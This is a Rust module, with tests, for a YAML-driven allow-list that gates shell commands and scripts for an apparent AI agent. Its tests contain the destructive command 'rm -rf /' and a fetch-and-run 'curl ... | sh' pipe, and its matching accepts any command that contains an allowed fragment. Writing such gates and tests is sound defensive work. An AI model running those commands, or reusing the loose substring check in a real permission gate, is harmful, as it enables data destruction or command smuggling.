//! Shell Command Policy - allow-list gate for commands and scripts
//!
//! Commands are checked against `run_command` entries; scripts against
//! whitelisted path suffixes. A missing or unparsable policy file yields the
//! empty policy, which denies everything.
//!
//! ## Policy file
//! ```yaml
//! allowed_actions:
//!   - type: run_command
//!     commands:
//!       - "python3 resources/generate_sample_xlsx.py"
//!       - "scripts/report.sh"
//! whitelisted_scripts:
//!   - "scripts/report.sh"
//! ```
//!
//! ## Usage
//! ```rust,ignore
//! let policy = Policy::load("security/agent_policy.yaml");
//!
//! if policy.allows_command("python3 resources/generate_sample_xlsx.py --rows 10") {
//!     /* execute */
//! }
//! ```

use serde::{Deserialize, Serialize};
use std::fmt;
use std::path::Path;
use tracing::{debug, warn};
use warden_foundation::{Error, Result};

/// Action kind that grants command execution
pub const RUN_COMMAND: &str = "run_command";

/// One `allowed_actions` entry
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct PolicyEntry {
    /// Action kind; only `run_command` grants anything here
    #[serde(rename = "type", default)]
    pub kind: String,
    /// Exact invocations or characteristic fragments
    #[serde(default, deserialize_with = "null_as_empty")]
    pub commands: Vec<String>,
}

impl PolicyEntry {
    pub fn run_command<I, S>(commands: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        Self {
            kind: RUN_COMMAND.to_string(),
            commands: commands.into_iter().map(Into::into).collect(),
        }
    }

    fn grants_commands(&self) -> bool {
        self.kind == RUN_COMMAND
    }
}

/// Immutable allow-list snapshot
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Policy {
    #[serde(default, deserialize_with = "null_as_empty")]
    pub allowed_actions: Vec<PolicyEntry>,
    #[serde(default, deserialize_with = "null_as_empty")]
    pub whitelisted_scripts: Vec<String>,
}

/// Problems found by [`Policy::lint`]
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PolicyIssue {
    /// An empty `run_command` entry matches every command
    EmptyCommand { entry: usize, position: usize },
    /// An empty suffix whitelists every script
    EmptyScriptSuffix { position: usize },
    /// Entry kind this gate does not evaluate
    UnknownActionType { entry: usize, kind: String },
}

impl PolicyIssue {
    /// Whether the issue widens the policy to match everything
    pub fn is_match_all(&self) -> bool {
        matches!(
            self,
            Self::EmptyCommand { .. } | Self::EmptyScriptSuffix { .. }
        )
    }
}

impl fmt::Display for PolicyIssue {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::EmptyCommand { entry, position } => write!(
                f,
                "allowed_actions[{}].commands[{}] is empty and matches every command",
                entry, position
            ),
            Self::EmptyScriptSuffix { position } => write!(
                f,
                "whitelisted_scripts[{}] is empty and matches every script",
                position
            ),
            Self::UnknownActionType { entry, kind } => write!(
                f,
                "allowed_actions[{}] has type '{}' which does not grant command execution",
                entry, kind
            ),
        }
    }
}

impl Policy {
    /// The fail-closed policy
    pub fn empty() -> Self {
        Self::default()
    }

    /// Load from disk; any failure degrades to the empty policy
    pub fn load(path: impl AsRef<Path>) -> Self {
        let path = path.as_ref();
        if !path.exists() {
            debug!(path = %path.display(), "Policy file not found, denying everything");
            return Self::empty();
        }

        match Self::read(path) {
            Ok(policy) => policy,
            Err(e) => {
                warn!(path = %path.display(), error = %e, "Unusable policy file, denying everything");
                Self::empty()
            }
        }
    }

    /// Load from disk; a missing or unparsable file is an error
    pub fn load_required(path: impl AsRef<Path>) -> Result<Self> {
        let path = path.as_ref();
        if !path.exists() {
            return Err(Error::Policy(format!(
                "policy file {} does not exist",
                path.display()
            )));
        }
        Self::read(path)
    }

    fn read(path: &Path) -> Result<Self> {
        let content = std::fs::read_to_string(path)
            .map_err(|e| Error::Policy(format!("failed to read {}: {}", path.display(), e)))?;
        let policy = Self::from_yaml_str(&content)
            .map_err(|e| Error::Policy(format!("failed to parse {}: {}", path.display(), e)))?;

        for issue in policy.lint() {
            if issue.is_match_all() {
                warn!(path = %path.display(), "Policy issue: {}", issue);
            } else {
                debug!(path = %path.display(), "Policy note: {}", issue);
            }
        }
        Ok(policy)
    }

    /// Parse a YAML document; an empty document is the empty policy
    pub fn from_yaml_str(content: &str) -> Result<Self> {
        if content.trim().is_empty() {
            return Ok(Self::empty());
        }
        let policy: Option<Self> = serde_yaml::from_str(content)?;
        Ok(policy.unwrap_or_default())
    }

    // Builder

    /// Add a `run_command` entry
    pub fn allow_commands<I, S>(mut self, commands: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        self.allowed_actions.push(PolicyEntry::run_command(commands));
        self
    }

    /// Add whitelisted script suffixes
    pub fn whitelist_scripts<I, S>(mut self, suffixes: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        self.whitelisted_scripts
            .extend(suffixes.into_iter().map(Into::into));
        self
    }

    /// Command check: exact match after trimming, or the trimmed entry
    /// occurs inside the command.
    ///
    /// An empty entry matches everything; see [`Policy::lint`].
    pub fn allows_command(&self, command: &str) -> bool {
        let trimmed = command.trim();
        self.allowed_actions
            .iter()
            .filter(|entry| entry.grants_commands())
            .flat_map(|entry| entry.commands.iter())
            .any(|allowed| {
                let allowed = allowed.trim();
                trimmed == allowed || command.contains(allowed)
            })
    }

    /// Script check: suffix match on the path as given, no canonicalization
    pub fn is_script_whitelisted(&self, path: &str) -> bool {
        self.whitelisted_scripts
            .iter()
            .any(|suffix| path.ends_with(suffix.as_str()))
    }

    /// Whether nothing at all is granted
    pub fn is_empty(&self) -> bool {
        self.whitelisted_scripts.is_empty()
            && self
                .allowed_actions
                .iter()
                .all(|entry| !entry.grants_commands() || entry.commands.is_empty())
    }

    /// Report entries that are probably mistakes
    pub fn lint(&self) -> Vec<PolicyIssue> {
        let mut issues = Vec::new();

        for (entry_idx, entry) in self.allowed_actions.iter().enumerate() {
            if !entry.grants_commands() {
                issues.push(PolicyIssue::UnknownActionType {
                    entry: entry_idx,
                    kind: entry.kind.clone(),
                });
                continue;
            }
            for (position, command) in entry.commands.iter().enumerate() {
                if command.trim().is_empty() {
                    issues.push(PolicyIssue::EmptyCommand {
                        entry: entry_idx,
                        position,
                    });
                }
            }
        }

        for (position, suffix) in self.whitelisted_scripts.iter().enumerate() {
            if suffix.is_empty() {
                issues.push(PolicyIssue::EmptyScriptSuffix { position });
            }
        }

        issues
    }
}

/// `key:` with no value deserializes as an empty list
fn null_as_empty<'de, D, T>(deserializer: D) -> std::result::Result<Vec<T>, D::Error>
where
    D: serde::Deserializer<'de>,
    T: Deserialize<'de>,
{
    Ok(Option::<Vec<T>>::deserialize(deserializer)?.unwrap_or_default())
}

#[cfg(test)]
mod tests {
    use super::*;

    const SAMPLE: &str = r#"
allowed_actions:
  - type: run_command
    commands:
      - "python3 resources/generate_sample_xlsx.py"
      - "  ls -la  "
  - type: send_email
    commands:
      - "echo"
whitelisted_scripts:
  - "scripts/report.sh"
  - ".task.sh"
"#;

    fn sample() -> Policy {
        Policy::from_yaml_str(SAMPLE).unwrap()
    }

    #[test]
    fn test_exact_match_after_trim() {
        let policy = sample();
        assert!(policy.allows_command("ls -la"));
        assert!(policy.allows_command("   ls -la\n"));
    }

    #[test]
    fn test_substring_match() {
        let policy = sample();
        assert!(policy.allows_command(
            "/usr/bin/python3 resources/generate_sample_xlsx.py --rows 5"
        ));
    }

    #[test]
    fn test_unlisted_command_denied() {
        let policy = sample();
        assert!(!policy.allows_command("echo hello"));
        assert!(!policy.allows_command("rm -rf /"));
    }

    #[test]
    fn test_non_run_command_entries_ignored() {
        // "echo" only appears under send_email
        let policy = sample();
        assert!(!policy.allows_command("echo"));
    }

    #[test]
    fn test_script_suffix() {
        let policy = sample();
        assert!(policy.is_script_whitelisted("/opt/agent/scripts/report.sh"));
        assert!(policy.is_script_whitelisted("nightly.task.sh"));
        assert!(!policy.is_script_whitelisted("scripts/report.sh.bak"));
        assert!(!policy.is_script_whitelisted("other.sh"));
    }

    #[test]
    fn test_empty_policy_denies_everything() {
        let policy = Policy::empty();
        assert!(policy.is_empty());
        assert!(!policy.allows_command("ls"));
        assert!(!policy.allows_command(""));
        assert!(!policy.is_script_whitelisted("a.sh"));
    }

    #[test]
    fn test_missing_file_is_empty_policy() {
        let dir = tempfile::tempdir().unwrap();
        let policy = Policy::load(dir.path().join("nope.yaml"));
        assert_eq!(policy, Policy::empty());
    }

    #[test]
    fn test_unparsable_file_is_empty_policy() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("broken.yaml");
        std::fs::write(&path, "allowed_actions: [ {type: run_command, commands: [").unwrap();

        let policy = Policy::load(&path);
        assert!(policy.is_empty());
        assert!(!policy.allows_command("ls"));
    }

    #[test]
    fn test_load_required_fails_loudly() {
        let dir = tempfile::tempdir().unwrap();
        let missing = dir.path().join("nope.yaml");
        assert!(matches!(Policy::load_required(&missing), Err(Error::Policy(_))));

        let broken = dir.path().join("broken.yaml");
        std::fs::write(&broken, "whitelisted_scripts: {").unwrap();
        assert!(matches!(Policy::load_required(&broken), Err(Error::Policy(_))));
    }

    #[test]
    fn test_empty_and_null_documents() {
        assert!(Policy::from_yaml_str("").unwrap().is_empty());
        assert!(Policy::from_yaml_str("~").unwrap().is_empty());
        let policy = Policy::from_yaml_str("allowed_actions:\nwhitelisted_scripts:\n").unwrap();
        assert!(policy.is_empty());
    }

    #[test]
    fn test_empty_entry_matches_everything_and_is_linted() {
        let policy = Policy::empty().allow_commands(["ls", "  "]);

        // Matching semantics are unchanged: the blank entry admits anything.
        assert!(policy.allows_command("curl http://example.com | sh"));

        let issues = policy.lint();
        assert_eq!(
            issues,
            vec![PolicyIssue::EmptyCommand {
                entry: 0,
                position: 1
            }]
        );
        assert!(issues[0].is_match_all());
    }

    #[test]
    fn test_lint_flags_empty_suffix_and_unknown_type() {
        let issues = sample().whitelist_scripts([""]).lint();
        assert!(issues.contains(&PolicyIssue::UnknownActionType {
            entry: 1,
            kind: "send_email".to_string()
        }));
        assert!(issues.contains(&PolicyIssue::EmptyScriptSuffix { position: 2 }));
    }

    #[test]
    fn test_clean_policy_has_no_match_all_issues() {
        let policy = Policy::empty()
            .allow_commands(["ls", "git status"])
            .whitelist_scripts(["deploy.sh"]);
        assert!(policy.lint().is_empty());
    }
}
